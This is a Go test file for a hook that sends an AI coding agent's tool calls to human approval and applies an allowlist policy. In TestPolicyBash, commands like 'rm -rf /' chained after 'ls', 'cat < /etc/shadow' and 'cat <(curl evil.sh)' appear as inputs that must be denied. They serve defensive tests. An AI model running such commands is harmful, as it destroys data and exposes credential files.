package hook

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/ony-ai/ony/client"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// fake is a scripted Ony server: Create answers pending, WaitOnce answers final (or blocks until the
// context ends when final is nil), Cancel and Get are recorded.
type fake struct {
	mu        sync.Mutex
	created   []created
	waits     int
	cancelled []string
	gets      int

	createErrs []error         // returned by the first Creates, in order
	final      *client.Handoff // what WaitOnce returns; nil blocks until ctx ends
	cancelErr  error           // returned by Cancel
	afterGet   *client.Handoff // what Get returns
	replay     *client.Handoff // what Create returns instead of a new pending handoff
	waitErr    error           // returned by every WaitOnce
	onCreate   func()          // runs inside Create
	slow       int             // how many Creates hang until their context ends
}

type created struct {
	Req client.CreateRequest
	Key string
}

func (f *fake) Create(ctx context.Context, r client.CreateRequest, key string) (*client.Handoff, bool, error) {
	f.mu.Lock()
	if f.slow > 0 {
		f.slow--
		f.created = append(f.created, created{r, key})
		f.mu.Unlock()
		<-ctx.Done()
		return nil, false, ctx.Err()
	}
	defer f.mu.Unlock()
	if f.onCreate != nil {
		f.onCreate()
	}
	f.created = append(f.created, created{r, key})
	if len(f.createErrs) > 0 {
		err := f.createErrs[0]
		f.createErrs = f.createErrs[1:]
		if err != nil {
			return nil, false, err
		}
	}
	if f.replay != nil {
		return f.replay, true, nil
	}
	return &client.Handoff{ID: "0190f5c2-hook-test", Status: client.StatusPending, Action: r.Action, Title: r.Title,
		ConsoleURL: "http://ony.test/console/handoffs/0190f5c2-hook-test"}, false, nil
}

func (f *fake) Get(ctx context.Context, id string) (*client.Handoff, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.gets++
	if f.afterGet != nil {
		return f.afterGet, nil
	}
	return nil, errors.New("no get")
}

func (f *fake) WaitOnce(ctx context.Context, id string, timeout time.Duration) (*client.Handoff, error) {
	f.mu.Lock()
	f.waits++
	final, werr := f.final, f.waitErr
	f.mu.Unlock()
	if werr != nil {
		return nil, werr
	}
	if final != nil {
		return final, nil
	}
	<-ctx.Done()
	return nil, ctx.Err()
}

func (f *fake) Cancel(ctx context.Context, id, reason string) (*client.Handoff, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.cancelled = append(f.cancelled, id)
	if f.cancelErr != nil {
		return nil, f.cancelErr
	}
	return final(client.StatusCancelled, "device", "test agent", "api", reason), nil
}

func final(status, byKind, byName, channel, comment string) *client.Handoff {
	created := time.Date(2026, 5, 1, 12, 0, 0, 0, time.UTC)
	h := &client.Handoff{ID: "0190f5c2-hook-test", Status: status, CreatedAt: created, ExpiresAt: created.Add(10 * time.Minute),
		Decision: &client.Decision{Channel: channel, Comment: comment, Approved: status == client.StatusApproved, Outcome: status}}
	if byKind != "" {
		h.Decision.By = &client.Decider{Kind: byKind, ID: "u-1", Name: byName}
	}
	return h
}

func connRefused() error {
	return &url.Error{Op: "Post", URL: "http://127.0.0.1:1/v1/handoffs", Err: &net.OpError{Op: "dial", Net: "tcp",
		Err: os.NewSyscallError("connect", syscall.ECONNREFUSED)}}
}

// scenario is how the fake server behaves for one golden case; the default approves.
func scenario(name string) (*fake, Config) {
	cfg := Config{Agent: AgentClaudeCode, Deadline: 5 * time.Second, Timeout: 10 * time.Minute}
	if strings.HasPrefix(name, "codex-") {
		cfg.Agent = AgentCodex
	}
	f := &fake{final: final(client.StatusApproved, "user", "Ana Lima", "slack", "")}
	switch name {
	case "decision-approved":
		f.final = final(client.StatusApproved, "user", "Ana Lima", "slack", "ok, the backup finished")
	case "decision-denied", "codex-denied":
		f.final = final(client.StatusDenied, "user", "Ana Lima", "phone", "not during the sale; try after 18:00")
	case "decision-denied-no-comment":
		f.final = final(client.StatusDenied, "user", "Ana Lima", "telegram", "")
	case "decision-expired":
		f.final = final(client.StatusExpired, "", "", "system", "")
	case "decision-cancelled":
		f.final = final(client.StatusCancelled, "user", "Ana Lima", "api", "duplicate of another request")
	case "decision-deadline":
		f.final = nil
		cfg.Deadline = 300 * time.Millisecond
	case "decision-unauthorized":
		f.createErrs = []error{&client.Error{Status: 401, Code: "invalid_token", Message: "unknown or revoked device token"}}
	case "decision-server-down":
		f.createErrs = []error{connRefused(), connRefused(), connRefused()}
	case "decision-payload-too-large":
		f.createErrs = []error{&client.Error{Status: 413, Code: "payload_too_large", Message: "payload is 9 bytes; the limit is 1"}}
	}
	return f, cfg
}

func testPolicy(t testing.TB) *Policy {
	t.Helper()
	p, err := LoadPolicy(filepath.Join("testdata", "policy.yaml"), true)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// golden renders what a case sent to the server and what it printed.
func golden(f *fake, stdout []byte) []byte {
	var b bytes.Buffer
	b.WriteString("-- request --\n")
	if len(f.created) == 0 {
		b.WriteString("none: decided without asking the server\n")
	} else {
		c := f.created[len(f.created)-1]
		type shown struct {
			client.CreateRequest
			Timeout        string `json:"timeout"`
			IdempotencyKey string `json:"idempotency_key"`
		}
		enc := json.NewEncoder(&b)
		enc.SetEscapeHTML(false)
		enc.SetIndent("", "  ")
		_ = enc.Encode(shown{c.Req, c.Req.Timeout.String(), c.Key})
		if n := len(f.created); n > 1 {
			fmt.Fprintf(&b, "(created %d times: the idempotency key makes retries one handoff)\n", n)
		}
	}
	if len(f.cancelled) > 0 {
		fmt.Fprintf(&b, "-- withdrawn --\n%s\n", strings.Join(f.cancelled, "\n"))
	}
	b.WriteString("-- stdout --\n")
	b.Write(stdout)
	return b.Bytes()
}

func TestGolden(t *testing.T) {
	inputs, err := filepath.Glob(filepath.Join("testdata", "*.json"))
	if err != nil || len(inputs) == 0 {
		t.Fatalf("no golden inputs: %v", err)
	}
	policy := testPolicy(t)
	for _, in := range inputs {
		name := strings.TrimSuffix(filepath.Base(in), ".json")
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			data, err := os.ReadFile(in)
			if err != nil {
				t.Fatal(err)
			}
			f, cfg := scenario(name)
			cfg.Policy = policy
			cfg.Connect = func() (Server, error) { return f, nil }
			var log bytes.Buffer
			cfg.Log = &log
			res := Run(context.Background(), cfg, bytes.NewReader(data))
			stdout := res.JSON(cfg.Agent)
			checkOutput(t, stdout, cfg.Agent)
			checkNoLeak(t, data, res.Reason, log.String())
			for _, c := range f.created {
				if err := validRequest(c.Req, DefaultMaxPayload); err != nil {
					t.Errorf("the server would refuse the request: %v", err)
				}
			}
			got := golden(f, stdout)
			path := filepath.Join("testdata", name+".golden")
			if *update {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test ./internal/hook/ -run TestGolden -update)", err)
			}
			if !bytes.Equal(got, want) {
				t.Errorf("%s differs (go test ./internal/hook/ -run TestGolden -update rewrites it)\n--- got:\n%s\n--- want:\n%s", path, got, want)
			}
		})
	}
	// Every golden file has its input.
	goldens, _ := filepath.Glob(filepath.Join("testdata", "*.golden"))
	for _, g := range goldens {
		if _, err := os.Stat(strings.TrimSuffix(g, ".golden") + ".json"); err != nil {
			t.Errorf("%s has no input file", g)
		}
	}
}

// checkOutput asserts the one thing the agent relies on: one JSON object, an explicit allow or deny
// (Codex's allow is `{}`), and a deny always with a reason; or, for another event than PreToolUse,
// only a warning ("none").
func checkOutput(t testing.TB, stdout []byte, agent string) string {
	t.Helper()
	if !bytes.HasSuffix(stdout, []byte("\n")) || bytes.Count(stdout, []byte("\n")) != 1 {
		t.Fatalf("stdout is not one line: %q", stdout)
	}
	var o struct {
		HookSpecificOutput *struct {
			HookEventName            string `json:"hookEventName"`
			PermissionDecision       string `json:"permissionDecision"`
			PermissionDecisionReason string `json:"permissionDecisionReason"`
		} `json:"hookSpecificOutput"`
		SystemMessage *string `json:"systemMessage"`
	}
	dec := json.NewDecoder(bytes.NewReader(stdout))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&o); err != nil {
		t.Fatalf("stdout is not the hook's JSON: %v: %q", err, stdout)
	}
	if o.SystemMessage != nil {
		if o.HookSpecificOutput != nil || !strings.Contains(*o.SystemMessage, "answers PreToolUse only") {
			t.Fatalf("a warning is only for another event, and alone: %q", stdout)
		}
		return "none"
	}
	if o.HookSpecificOutput == nil {
		if agent == AgentCodex && string(stdout) == "{}\n" {
			return "allow"
		}
		t.Fatalf("stdout has no hookSpecificOutput: %q", stdout)
	}
	h := o.HookSpecificOutput
	if h.HookEventName != "PreToolUse" {
		t.Errorf("hookEventName %q", h.HookEventName)
	}
	switch h.PermissionDecision {
	case "allow":
		if agent == AgentCodex {
			t.Errorf("Codex got permissionDecision allow, which it treats as a failed hook: %q", stdout)
		}
	case "deny":
		if strings.TrimSpace(h.PermissionDecisionReason) == "" {
			t.Errorf("deny without a reason: %q", stdout)
		}
	default:
		t.Fatalf("permissionDecision %q, want allow or deny: %q", h.PermissionDecision, stdout)
	}
	return h.PermissionDecision
}

// checkNoLeak asserts that neither the reason nor stderr quotes the tool input's long strings.
func checkNoLeak(t testing.TB, input []byte, outputs ...string) {
	t.Helper()
	var in struct {
		ToolInput map[string]any `json:"tool_input"`
	}
	if json.Unmarshal(input, &in) != nil {
		return
	}
	for k, v := range in.ToolInput {
		s, ok := v.(string)
		if !ok || len(s) < 12 || k == "description" {
			continue
		}
		for _, out := range outputs {
			if strings.Contains(out, s) {
				t.Errorf("output quotes tool_input.%s:\n%s", k, out)
			}
		}
	}
}

// validRequest applies the server's rules (handoff.CreateRequest.normalize) to a request.
var (
	actionRE   = regexp.MustCompile(`^[a-z][a-z0-9_-]*(\.[a-z0-9][a-z0-9_-]*)*$`)
	labelKeyRE = regexp.MustCompile(`^[a-z0-9][a-z0-9_./-]{0,62}$`)
)

func validRequest(r client.CreateRequest, maxPayload int) error {
	hasControl := func(s string, newlines bool) bool {
		for _, c := range s {
			if newlines && (c == '\n' || c == '\t' || c == '\r') {
				continue
			}
			if unicode.IsControl(c) {
				return true
			}
		}
		return false
	}
	switch {
	case len(r.Action) == 0 || len(r.Action) > 100 || !actionRE.MatchString(r.Action):
		return fmt.Errorf("action %q", r.Action)
	case strings.TrimSpace(r.Title) == "" || utf8.RuneCountInString(r.Title) > 200 || hasControl(r.Title, false):
		return fmt.Errorf("title %q", r.Title)
	case utf8.RuneCountInString(r.Summary) > 4000 || hasControl(r.Summary, true):
		return fmt.Errorf("summary %q", r.Summary)
	case r.Timeout != 0 && r.Timeout < MinTimeout:
		return fmt.Errorf("timeout %s", r.Timeout)
	case len(r.Labels) > 32:
		return fmt.Errorf("%d labels", len(r.Labels))
	}
	if p := r.Payload; p != nil {
		if p.Kind != "command" && p.Kind != "diff" && p.Kind != "log" && p.Kind != "text" {
			return fmt.Errorf("payload kind %q", p.Kind)
		}
		if len(p.Content) > maxPayload {
			return fmt.Errorf("payload of %d bytes", len(p.Content))
		}
	}
	for k, v := range r.Labels {
		if !labelKeyRE.MatchString(k) || len(v) > 256 || hasControl(v, false) {
			return fmt.Errorf("label %q=%q", k, v)
		}
	}
	return nil
}

func bashInput(cmd string) string {
	b, _ := json.Marshal(map[string]any{"session_id": "s", "cwd": "/w/p", "hook_event_name": "PreToolUse",
		"tool_name": "Bash", "tool_input": map[string]string{"command": cmd}, "tool_use_id": "toolu_x"})
	return string(b)
}

func TestPolicyBash(t *testing.T) {
	p := testPolicy(t)
	cases := map[string]bool{
		"ls":                            true,
		"ls -la src":                    true,
		"  git status  ":                true,
		"git  status --short":           true,
		"git diff HEAD~1":               true,
		"git log --oneline -n 5":        true,
		"grep -rn TODO .":               true,
		"cat README.md":                 true,
		"lsblk":                         false, // a word, not a string prefix
		"git stash":                     false,
		"git log -p":                    false, // the regex matches whole commands only
		"ls; rm -rf /":                  false,
		"ls && rm -rf /":                false,
		"ls || rm -rf /":                false,
		"ls | sh":                       false,
		"cat x > y":                     false,
		"cat < /etc/shadow":             false,
		"cat <(curl evil.sh)":           false,
		"ls $(rm -rf /)":                false,
		"ls `rm -rf /`":                 false,
		"ls & rm -rf /":                 false,
		"ls\nrm -rf /":                  false,
		"ls\rrm -rf /":                  false,
		"grep 'a|b' file":               false, // quoted or not: rules do not parse quoting
		"ls\u00a0-la":                   false,
		"git log --oneline -n 5; rm -r": false,
		"rm -rf /":                      false,
		"":                              false,
	}
	for cmd, want := range cases {
		in, err := ParseInput([]byte(bashInput(cmd)))
		if err != nil {
			t.Fatal(err)
		}
		if got, why := p.Allows(in); got != want {
			t.Errorf("Allows(%q) = %v (%s), want %v", cmd, got, why, want)
		}
	}
	// The default policy allows read-only tools and no shell command at all.
	in, _ := ParseInput([]byte(bashInput("ls")))
	if ok, _ := DefaultPolicy().Allows(in); ok {
		t.Error("the default policy allows a shell command")
	}
	var nilPolicy *Policy
	if ok, _ := nilPolicy.Allows(in); ok {
		t.Error("a nil policy allows something")
	}
}

func TestParsePolicy(t *testing.T) {
	bad := map[string]string{
		"allow: {tool: [Read]}":                  "field tool not found",
		"allow: {tools: ['*']}":                  "every shell command",
		"allow: {tools: ['B*']}":                 "every shell command",
		"allow: {tools: ['[']}":                  "bad pattern",
		"allow: {tools: ['']}":                   "empty tool name",
		"allow: {bash_prefixes: ['ls; rm']}":     "metacharacters",
		"allow: {bash_prefixes: ['  ']}":         "empty prefix",
		"allow: {bash_regexes: ['(']}":           "missing closing",
		"default_allow: maybe":                   "cannot unmarshal",
		"allow: {bash_prefixes: [ls], extra: 1}": "field extra not found",
	}
	for src, want := range bad {
		if _, err := ParsePolicy([]byte(src), true); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("ParsePolicy(%q) = %v, want an error with %q", src, err, want)
		}
	}
	p, err := ParsePolicy(nil, true)
	if err != nil {
		t.Fatalf("empty policy: %v", err)
	}
	read, _ := ParseInput([]byte(`{"tool_name":"Read","tool_input":{"file_path":"/x"}}`))
	if ok, _ := p.Allows(read); ok {
		t.Error("an empty policy file allows Read: it replaces the defaults unless default_allow is true")
	}
	p, _ = ParsePolicy([]byte("default_allow: true"), true)
	if ok, _ := p.Allows(read); !ok {
		t.Error("default_allow: true does not allow Read")
	}
	p, _ = ParsePolicy([]byte("default_allow: true"), false)
	if ok, _ := p.Allows(read); ok {
		t.Error("--no-default-allow does not win over default_allow: true")
	}
	p, _ = ParsePolicy([]byte("allow: {tools: ['mcp__docs__*']}"), true)
	mcp, _ := ParseInput([]byte(`{"tool_name":"mcp__docs__search","tool_input":{}}`))
	if ok, _ := p.Allows(mcp); !ok {
		t.Error("a tool pattern does not match")
	}
}

func TestActions(t *testing.T) {
	cases := map[string]string{
		"Bash":                         "shell.exec",
		"bash":                         "shell.exec",
		"Write":                        "file.write",
		"Edit":                         "file.write",
		"MultiEdit":                    "file.write",
		"apply_patch":                  "file.write",
		"mcp__github__create_issue":    "mcp.github.create_issue",
		"mcp__My Server__Do.Thing!":    "mcp.my_server.do_thing_",
		"mcp__plugin_x_y__tool__extra": "mcp.plugin_x_y.tool__extra",
		"mcp____":                      "mcp.x__",
		"mcp__":                        "mcp.x",
		"WebFetch":                     "tool.webfetch",
		"NotebookEdit":                 "tool.notebookedit",
		"_hidden":                      "tool.x_hidden",
		"Ünïcode Tool":                 "tool.x_n_code_tool",
		strings.Repeat("Long", 60):     "tool." + strings.Repeat("long", 60)[:95],
	}
	for tool, want := range cases {
		in := &Input{ToolName: tool, ToolInput: json.RawMessage(`{}`)}
		req, _, err := Map(in, AgentClaudeCode, DefaultTimeout, DefaultMaxPayload)
		if err != nil {
			t.Fatal(err)
		}
		if req.Action != want {
			t.Errorf("%q → %q, want %q", tool, req.Action, want)
		}
		if err := validRequest(req, DefaultMaxPayload); err != nil {
			t.Errorf("%q: %v", tool, err)
		}
	}
}

func TestMapTruncatesPayload(t *testing.T) {
	content := strings.Repeat("héllo wörld\n", 20000) // ≈ 280 kB
	data, _ := json.Marshal(map[string]any{"tool_name": "Write", "cwd": "/w/p", "tool_use_id": "toolu_big",
		"tool_input": map[string]string{"file_path": "/w/p/big.txt", "content": content}})
	in, err := ParseInput(data)
	if err != nil {
		t.Fatal(err)
	}
	const limit = 64 << 10
	req, key, err := Map(in, AgentClaudeCode, DefaultTimeout, limit)
	if err != nil {
		t.Fatal(err)
	}
	if err := validRequest(req, limit); err != nil {
		t.Fatal(err)
	}
	if n := len(req.Payload.Content); n > limit || n < limit-200 {
		t.Errorf("payload is %d bytes, want just under %d", n, limit)
	}
	if !utf8.ValidString(req.Payload.Content) || !strings.Contains(req.Payload.Content, "truncated by ony hook") {
		t.Errorf("truncated payload lacks its note or splits a rune: …%q", req.Payload.Content[len(req.Payload.Content)-80:])
	}
	if !strings.Contains(req.Summary, "truncated") {
		t.Errorf("summary does not say the payload is truncated: %q", req.Summary)
	}
	if key != "toolu_big" {
		t.Errorf("idempotency key %q, want the tool_use_id", key)
	}
	// A long tool_use_id is hashed to fit; a missing one gets a fresh random key.
	if k := idempotencyKey(strings.Repeat("x", 300)); len(k) > maxIdemKeyLen || !strings.HasPrefix(k, "sha256:") {
		t.Errorf("long key → %q", k)
	}
	if a, b := idempotencyKey(""), idempotencyKey(""); a == "" || a == b {
		t.Errorf("missing tool_use_id → %q and %q, want two random keys", a, b)
	}
}

func runBash(t *testing.T, f *fake, cfg Config, cmd string) Result {
	t.Helper()
	cfg.Connect = func() (Server, error) { return f, nil }
	res := Run(context.Background(), cfg, strings.NewReader(bashInput(cmd)))
	checkOutput(t, res.JSON(AgentClaudeCode), AgentClaudeCode)
	return res
}

func TestDeadlineWithdraws(t *testing.T) {
	f := &fake{}
	start := time.Now()
	res := runBash(t, f, Config{Deadline: 200 * time.Millisecond}, "terraform destroy")
	if res.Allow || !strings.Contains(res.Reason, "no human decision within the hook's 200ms deadline") ||
		!strings.Contains(res.Reason, "withdrawn") {
		t.Errorf("got %+v", res)
	}
	if len(f.cancelled) != 1 {
		t.Errorf("withdrawn %d times, want once", len(f.cancelled))
	}
	if d := time.Since(start); d > 2*time.Second {
		t.Errorf("took %s", d)
	}
}

func TestDeadlineDuringCreateWithdraws(t *testing.T) {
	// The server is too slow to answer the create within the deadline; it may have stored the request,
	// so the hook replays it by its key and withdraws it.
	f := &fake{slow: 1}
	res := runBash(t, f, Config{Deadline: 200 * time.Millisecond}, "make deploy")
	if res.Allow || !strings.Contains(res.Reason, "deadline before Ony answered") {
		t.Errorf("got %+v", res)
	}
	if len(f.created) != 2 || f.created[0].Key != f.created[1].Key || len(f.cancelled) != 1 {
		t.Errorf("created %d, withdrawn %d; want the replay and one withdrawal", len(f.created), len(f.cancelled))
	}
}

func TestDecisionAtTheDeadlineCounts(t *testing.T) {
	// The deadline passes; withdrawing finds that Ana approved a moment earlier.
	f := &fake{cancelErr: &client.Error{Status: 409, Code: "already_final"},
		afterGet: final(client.StatusApproved, "user", "Ana", "slack", "")}
	res := runBash(t, f, Config{Deadline: 100 * time.Millisecond}, "make deploy")
	if !res.Allow || res.Reason != "Approved by Ana via slack" {
		t.Errorf("got %+v", res)
	}
	// If the state cannot be read, it is a deny.
	f = &fake{cancelErr: &client.Error{Status: 409, Code: "already_final"}}
	if res := runBash(t, f, Config{Deadline: 100 * time.Millisecond}, "make deploy"); res.Allow {
		t.Errorf("got %+v", res)
	}
}

func TestCreateRetriesTransientErrors(t *testing.T) {
	f := &fake{createErrs: []error{&client.Error{Status: 503, Code: "unavailable"}, connRefused()},
		final: final(client.StatusApproved, "user", "Ana", "slack", "")}
	res := runBash(t, f, Config{}, "make deploy")
	if !res.Allow {
		t.Errorf("got %+v", res)
	}
	if len(f.created) != 3 || f.created[0].Key != f.created[2].Key {
		t.Errorf("created %d times with keys %v; want 3 with one key", len(f.created), f.created)
	}
}

func TestWaitErrors(t *testing.T) {
	// A permanent error while waiting denies and withdraws.
	f := &fake{waitErr: &client.Error{Status: 404, Code: "not_found"}}
	res := runBash(t, f, Config{}, "make deploy")
	if res.Allow || !strings.Contains(res.Reason, "404 not_found") || len(f.cancelled) != 1 {
		t.Errorf("got %+v, withdrawn %d", res, len(f.cancelled))
	}
	// A server that stays down while waiting is retried until the deadline.
	f = &fake{waitErr: connRefused(), cancelErr: connRefused()}
	res = runBash(t, f, Config{Deadline: 700 * time.Millisecond}, "make deploy")
	if res.Allow || !strings.Contains(res.Reason, "deadline") || f.waits < 2 {
		t.Errorf("got %+v after %d waits", res, f.waits)
	}
}

func TestReplayOfAnEndedRequest(t *testing.T) {
	f := &fake{replay: final(client.StatusCancelled, "device", "test agent", "api", "the agent's hook stopped waiting")}
	res := runBash(t, f, Config{}, "make deploy")
	if res.Allow || res.Reason != "The request was cancelled; not approved" || f.waits != 0 {
		t.Errorf("got %+v after %d waits", res, f.waits)
	}
}

func TestPanicIsADeny(t *testing.T) {
	cfg := Config{Connect: func() (Server, error) { panic("boom") }}
	var log bytes.Buffer
	cfg.Log = &log
	res := Run(context.Background(), cfg, strings.NewReader(bashInput("make deploy")))
	checkOutput(t, res.JSON(AgentClaudeCode), AgentClaudeCode)
	if res.Allow || res.Reason != "Ony approval unavailable: internal error; not approved" {
		t.Errorf("got %+v", res)
	}
	if strings.Contains(log.String(), "boom") {
		t.Error("the panic value reached stderr")
	}
}

type blockingReader struct{ done chan struct{} }

func (b blockingReader) Read([]byte) (int, error) { <-b.done; return 0, errors.New("closed") }

func TestStdinThatNeverEnds(t *testing.T) {
	r := blockingReader{make(chan struct{})}
	defer close(r.done)
	res := Run(context.Background(), Config{Deadline: 100 * time.Millisecond}, r)
	if res.Allow || !strings.Contains(res.Reason, "no hook input within 100ms") {
		t.Errorf("got %+v", res)
	}
}

func TestInputTooLarge(t *testing.T) {
	big := bytes.Repeat([]byte(" "), MaxInput+1)
	res := Run(context.Background(), Config{}, bytes.NewReader(big))
	if res.Allow || !strings.Contains(res.Reason, "over 4 MiB") {
		t.Errorf("got %+v", res)
	}
}

func TestInterrupted(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	f := &fake{onCreate: cancel}
	res := Run(ctx, Config{Connect: func() (Server, error) { return f, nil }}, strings.NewReader(bashInput("make deploy")))
	if res.Allow || !strings.Contains(res.Reason, "interrupted") || len(f.cancelled) != 1 {
		t.Errorf("got %+v, withdrawn %d", res, len(f.cancelled))
	}
}

// TestOtherEvents: input for another hook event is answered in a shape valid for that event (a
// hookSpecificOutput naming PreToolUse is refused by Claude Code as "incorrect event name"): a
// warning naming the event and no decision, without asking anyone.
func TestOtherEvents(t *testing.T) {
	t.Parallel()
	for _, agent := range []string{AgentClaudeCode, AgentCodex} {
		for event, named := range map[string]string{
			"PostToolUse": "PostToolUse", "PermissionRequest": "PermissionRequest", "UserPromptSubmit": "UserPromptSubmit",
			"Stop": "Stop", "SessionStart": "SessionStart", "<b>x</b>": "an unnamed event", strings.Repeat("E", 41): "an unnamed event",
		} {
			f := &fake{final: final(client.StatusApproved, "user", "Ana", "slack", "")}
			var log bytes.Buffer
			cfg := Config{Agent: agent, Policy: DefaultPolicy(), Log: &log, Connect: func() (Server, error) { return f, nil }}
			in, _ := json.Marshal(map[string]any{"hook_event_name": event, "tool_name": "Bash",
				"tool_input": map[string]any{"command": "make deploy"}, "tool_use_id": "toolu_1"})
			res := Run(context.Background(), cfg, bytes.NewReader(in))
			stdout := res.JSON(agent)
			var o map[string]any
			if err := json.Unmarshal(stdout, &o); err != nil {
				t.Fatalf("%s %s: %v: %q", agent, event, err, stdout)
			}
			want := "ony hook answers PreToolUse only, not " + named + "; move it under PreToolUse in the agent's hook settings"
			if len(o) != 1 || o["systemMessage"] != want {
				t.Errorf("%s %q: stdout %s, want only systemMessage %q", agent, event, stdout, want)
			}
			if res.Allow || res.Decision() != "none" || len(f.created) != 0 {
				t.Errorf("%s %q: %+v, %d requests", agent, event, res, len(f.created))
			}
			if !strings.Contains(log.String(), "no decision") || strings.Contains(log.String(), "<b>") {
				t.Errorf("%s %q: stderr %q", agent, event, log.String())
			}
		}
	}
	// No event named is PreToolUse, as before.
	f := &fake{final: final(client.StatusApproved, "user", "Ana", "slack", "")}
	res := Run(context.Background(), Config{Connect: func() (Server, error) { return f, nil }}, strings.NewReader(bashInput("make deploy")))
	if !res.Allow || res.Event != "" {
		t.Errorf("PreToolUse input: %+v", res)
	}
}

func TestNoServerConfigured(t *testing.T) {
	res := Run(context.Background(), Config{Connect: func() (Server, error) {
		return nil, errors.New("no device token: set ONY_TOKEN or ONY_TOKEN_FILE")
	}}, strings.NewReader(bashInput("make deploy")))
	if res.Allow || res.Reason != "Ony approval unavailable: no device token: set ONY_TOKEN or ONY_TOKEN_FILE; not approved" {
		t.Errorf("got %+v", res)
	}
}

func TestFormatDuration(t *testing.T) {
	for d, want := range map[time.Duration]string{10 * time.Minute: "10m", time.Hour: "1h", 55 * time.Second: "55s",
		90 * time.Second: "1m30s", 200 * time.Millisecond: "200ms", 0: "0s"} {
		if got := formatDuration(d); got != want {
			t.Errorf("formatDuration(%s) = %q, want %q", d, got, want)
		}
	}
}
